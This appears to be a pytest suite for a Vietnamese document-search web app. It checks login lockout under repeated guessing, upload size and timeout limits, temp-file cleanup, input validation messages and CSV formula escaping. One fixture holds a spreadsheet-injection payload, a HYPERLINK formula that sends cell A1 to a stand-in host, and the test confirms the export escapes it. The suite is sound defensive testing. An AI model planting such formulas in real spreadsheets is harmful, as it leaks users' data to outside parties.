"""The app facing the public: throttled logins, bounded uploads, no leftovers,
safe spreadsheets and a Vietnamese message for every bad input. One real app
process with a login, over a copy of the e5 index of the samples, driven over
HTTP as browsers and scripts drive it (bench/webclient.py makes the page's
own calls); its limits are set short through the environment."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from email.message import Message
from pathlib import Path
from typing import Any

import pytest

from bench.webclient import Page
from tests.conftest import write_plan_excerpt
from tests.ingest.make import slow_plan
from tests.test_app import FLAGSHIP, _start_app

USER, PASSWORD = "canbo", "mat-khau-1"
GUEST, GUEST_PASSWORD = "khach", "mat-khau-2"  # the one the throttling test locks out
LIMITS = {
    "DIRECTIVE_AUTH": f"{USER}:{PASSWORD},{GUEST}:{GUEST_PASSWORD}",
    "DIRECTIVE_LOGIN_LOCKOUT_SECONDS": "2",
    "DIRECTIVE_PARSE_SECONDS": "6",  # long enough that an ingest beside a stopped parse ends first on a slow machine
    "DIRECTIVE_MAX_FILE_MB": "16",
    "DIRECTIVE_TEMP_MAX_AGE": "6",
    "DIRECTIVE_TEMP_SWEEP_SECONDS": "1",
}


class App:
    def __init__(self, url: str, temp: Path, log: Path) -> None:
        self.url, self.temp, self.log = url, temp, log

    def page(self) -> Page:
        return Page(self.url, auth=(USER, PASSWORD))

    def files(self) -> list[Path]:
        return sorted(p for p in self.temp.rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def app(e5_storage: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    work = tmp_path_factory.mktemp("hardened")
    shutil.copytree(e5_storage, work / "storage")
    env = {**LIMITS, "DIRECTIVE_TEMP_DIR": str(work / "temp")}
    proc, url = _start_app(work / "storage", work / "app.log", env)
    yield App(url, work / "temp", work / "app.log")
    proc.terminate()
    proc.wait(30)


def _login(url: str, user: str, password: str, address: str | None = None) -> tuple[int, Message]:
    """POST the login form as the page does; `address` is the client a trusted proxy would name."""
    data = urllib.parse.urlencode({"username": user, "password": password}).encode()
    headers = {"X-Forwarded-For": address} if address else {}
    try:
        with urllib.request.urlopen(urllib.request.Request(url + "/login", data=data, headers=headers), timeout=30) as r:
            return r.status, r.headers
    except urllib.error.HTTPError as e:
        return e.code, e.headers


def test_wrong_logins_are_throttled_and_the_right_password_works_after_the_wait(app: App):
    codes = [_login(app.url, GUEST, f"doan-{n}")[0] for n in range(30)]
    assert codes[:5] == [400] * 5 and codes[5:] == [429] * 25  # 5 wrong, then refused without checking
    code, headers = _login(app.url, GUEST, GUEST_PASSWORD)
    assert code == 429 and 1 <= int(headers["Retry-After"]) <= 3  # even the right one, while locked
    time.sleep(int(headers["Retry-After"]) + 0.2)
    assert _login(app.url, GUEST, GUEST_PASSWORD)[0] == 200
    from gradio_client import Client

    answer = Client(app.url, auth=(GUEST, GUEST_PASSWORD), verbose=False).predict(FLAGSHIP, api_name="/ask")
    assert answer["answer"].startswith("Sở Tư pháp")
    # One address guessing many names is stopped too; other addresses are not.
    guesses = [_login(app.url, f"ten-{n}", "x", "203.0.113.7")[0] for n in range(25)]
    assert guesses[:20] == [400] * 20 and set(guesses[20:]) == {429}
    assert _login(app.url, USER, PASSWORD, "203.0.113.7")[0] == 429
    assert _login(app.url, USER, PASSWORD, "198.51.100.2")[0] == 200
    log = app.log.read_text(encoding="utf-8")
    assert f"sai mật khẩu user='{GUEST}' từ 127.0.0.1" in log and f"khóa đăng nhập user='{GUEST}'" in log
    assert "từ chối đăng nhập user='ten-20' từ 203.0.113.7" in log


def _call_ask(page: Page, body: bytes) -> tuple[str, Any]:
    """POST raw JSON to the /ask API (as any program may): the result's event and its data."""
    joined = page.http.post(f"{page.url}/gradio_api/call/ask", content=body, headers={"Content-Type": "application/json"})
    assert joined.status_code == 200, joined.text
    stream = page.http.get(f"{page.url}/gradio_api/call/ask/{joined.json()['event_id']}").text
    event = next(line[6:].strip() for line in stream.splitlines() if line.startswith("event:"))
    data = next(json.loads(line[5:]) for line in stream.splitlines() if line.startswith("data:"))
    return event, data


def test_bad_input_over_the_api_gets_a_vietnamese_message(app: App):
    from gradio_client import Client
    from gradio_client.exceptions import AppError

    with app.page() as page:
        question = b'"S\\u1edf T\\u01b0 ph\\u00e1p \\ud800 l\\u00e0m g\\u00ec?"'  # JSON's lone surrogate
        event, data = _call_ask(page, b'{"data": [' + question + b', null, null, "", ""]}')
        assert event == "error" and data["error"].startswith("Câu hỏi có ký tự không hợp lệ (mã U+D800, ký tự thứ 12)")
        event, data = _call_ask(page, b'{"data": [42, null, null, "", ""]}')
        assert event == "error" and data["error"] == "Câu hỏi phải là một chuỗi chữ, không phải số."
    client = Client(app.url, auth=(USER, PASSWORD), verbose=False)
    for filters, message in [
        (("Quảng Ngãi",), "Bộ lọc tỉnh (provinces) phải là một danh sách"),
        (([7],), "có mục là số"),
        ((["Atlantis"],), "Không nhận ra tỉnh, thành phố 'Atlantis'"),
        (([], ["khong-co-van-ban"]), "Không có văn bản mã 'khong-co-van-ban'"),
        (([], [], "2025-01-01", "2024-01-01"), "sau ngày kết thúc"),
    ]:
        with pytest.raises(AppError, match=re.escape(message)):
            client.predict(FLAGSHIP, *filters, api_name="/ask")
    assert client.predict(FLAGSHIP, ["tỉnh Quảng Ngãi"], api_name="/ask")["grounded"] is True


def test_a_slow_parse_is_stopped_while_other_uploads_and_removals_go_on(app: App, tmp_path: Path):
    slow = slow_plan(tmp_path / "ke-hoach-rat-dai.txt", 15)  # 10 s of parsing or more: stopped at 6
    quick = write_plan_excerpt(tmp_path / "ke-hoach-lao-cai.txt", province="Lào Cai")
    done: dict[str, tuple[float, str]] = {}

    def finished(what: str, result: str) -> None:
        done[what] = (time.monotonic(), result)

    def upload_slow() -> None:
        with app.page() as page:
            finished("slow", page.add_documents([slow]))

    started = time.monotonic()
    slow_thread = threading.Thread(target=upload_slow)
    slow_thread.start()
    time.sleep(1)  # the slow one is parsing
    with app.page() as page:  # another person, meanwhile: adds a document, then removes it
        finished("quick", page.add_documents([quick]))
        finished("remove", page.remove_document("ke-hoach-lao-cai"))
    slow_thread.join(120)
    print("seconds after the slow upload began:", {k: round(t - started, 1) for k, (t, _) in done.items()})
    assert "ke-hoach-lao-cai.txt: đã nạp" in done["quick"][1]
    assert "Đã xóa văn bản ke-hoach-lao-cai" in done["remove"][1]
    assert "ke-hoach-rat-dai.txt: lỗi — đọc tệp quá 6 giây nên đã dừng" in done["slow"][1]
    # Neither waited for the slow parse: the library's lock is not held while a file is parsed.
    assert done["quick"][0] < done["slow"][0] and done["remove"][0] < done["slow"][0]
    assert done["slow"][0] - started < 60


def test_an_upload_read_after_the_temp_age_is_still_there(app: App, tmp_path: Path):
    # The third file is opened after two parses stopped at 6 s: older than the 6 s temp age,
    # it must not have been deleted meanwhile (Gradio's own clean-up would; the sweeper spares it).
    slow = [slow_plan(tmp_path / f"ke-hoach-rat-dai-{n}.txt", 12) for n in (1, 2)]
    late = write_plan_excerpt(tmp_path / "ke-hoach-yen-bai.txt", province="Yên Bái")
    with app.page() as page:
        started = time.monotonic()
        result = page.add_documents([*slow, late])
        assert time.monotonic() - started > 12
        assert "ke-hoach-yen-bai.txt: đã nạp" in result, result
        assert "Đã xóa văn bản ke-hoach-yen-bai" in page.remove_document("ke-hoach-yen-bai")


def test_uploads_are_not_kept_nor_served_and_the_temp_folders_are_swept(app: App, tmp_path: Path):
    too_big = tmp_path / "qua-lon.txt"
    with too_big.open("wb") as f:
        f.write(b"x" * (17 << 20))
    with app.page() as page:
        with pytest.raises(Exception, match="413"):  # refused while it streams in
            page.upload([too_big])
        assert not any(p.stat().st_size > (16 << 20) for p in app.files())
        (tmp_path / "nhap.txt").write_text("THÔNG BÁO\n\nKết luận\n\n- Sở Y tế số hóa hồ sơ.\n", "utf-8")
        uploaded = page.upload([tmp_path / "nhap.txt"])[0]  # uploaded, never submitted
        assert Path(uploaded["path"]).is_file()
        refused = page.download(uploaded)
        assert refused.status_code == 403 and "không được tải về" in refused.text
        csv_file = page.tasks("Sở Tư pháp")[3]
        got = page.download(csv_file)
        assert got.status_code == 200 and got.text.startswith("\ufeffNhiệm vụ")
        assert Path(csv_file["path"]).is_relative_to(app.temp / "downloads")
        assert app.files()
        deadline = time.monotonic() + 30  # files live 6 s, looked for every second
        while app.files() and time.monotonic() < deadline:
            time.sleep(0.5)
    assert app.files() == []


def test_the_app_download_escapes_cells_that_would_run_as_formulas(app: App, tmp_path: Path):
    hostile = tmp_path / "ke-hoach-bac-kan.txt"
    hostile.write_text(
        "UBND TỈNH BẮC KẠN\n\nKẾ HOẠCH\n\nTriển khai Đề án 06 năm 2025\n\n1. Sở Công Thương\n\n"
        '- =HYPERLINK("http://x.example/?"&A1,"Bấm vào đây") trong năm 2025.\n',
        encoding="utf-8",
    )
    with app.page() as page:
        assert "đã nạp" in page.add_documents([hostile])
        message, _, _, csv_file = page.tasks("Sở Công Thương")
        assert message.startswith("1 nhiệm vụ")
        rows = list(csv.reader(io.StringIO(page.download(csv_file).text.removeprefix("\ufeff"))))
        assert rows[1][0].startswith("'=HYPERLINK(")
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
        page.remove_document("ke-hoach-bac-kan")
